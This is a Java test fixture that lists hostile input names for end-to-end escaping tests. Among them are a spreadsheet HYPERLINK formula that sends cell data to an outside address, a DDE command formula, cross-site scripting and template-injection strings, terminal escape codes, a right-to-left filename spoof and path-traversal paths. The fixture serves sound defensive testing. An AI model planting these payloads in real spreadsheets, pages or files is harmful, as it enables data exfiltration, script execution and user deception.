package io.github.queuesla.e2e.hostile;

import java.util.List;

/** Names that attack terminals, spreadsheets, pages and parsers. */
final class HostileNames {

    /** One of each kind; none is empty, and all differ. */
    static final List<String> ALL = List.of(
            "=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"Sales\")",
            "+1-555-0100",
            "-1+2",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=2+2",
            "\n=3+3",
            " \u00a0=4+4",
            "\uff1dcmd|' /C calc'!A0",
            "\uff0b1",
            "\uff0d1",
            "\uff20x",
            "\u200b=5+5",
            "'=6+6",
            "\"quoted\", comma; semi 'single'",
            "<img src=x onerror=alert(1)>",
            "</script><script>alert(1)</script>",
            "]]><![CDATA[<b>",
            "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7}",
            "&lt;b&gt;&#60;b&#62;",
            "javascript:alert(1)",
            "pipe | pipe || `tick` [link](http://198.51.100.1) ![i](http://198.51.100.1/i)",
            "<http://198.51.100.1> http://198.51.100.1 www.example.com a@example.com",
            "# heading",
            "- item",
            "1. item",
            "***",
            "label\",evil=\"1",
            "back\\slash\\",
            "two\nlines} 1\nqueue_sla_ratio 1",
            "\u001b[31mred\u001b[0m",
            "\u001b]0;title\u0007",
            "\u009b31mC1\u0085\u0090",
            "over\rwrite\b\b\bDEL\u007f",
            "admin\u202egnp.exe\u2066\u2069",
            "zero\u200bwidth\u2060\ufeff\u00ad",
            "line\u2028paragraph\u2029",
            "tag\udb40\udc41\udb40\udc42\udb40\udc7f",
            "half \ud800 pair \udc00",
            "emoji \ud83d\ude80 \u65e5\u672c\u8a9e",
            "../../../outside",
            "/etc/passwd",
            "C:\\outside",
            "con\u0000zero",
            "_x000D_ _x003D_1",
            "null",
            "L" + "ong".repeat(3_000));

    private HostileNames() {}
}
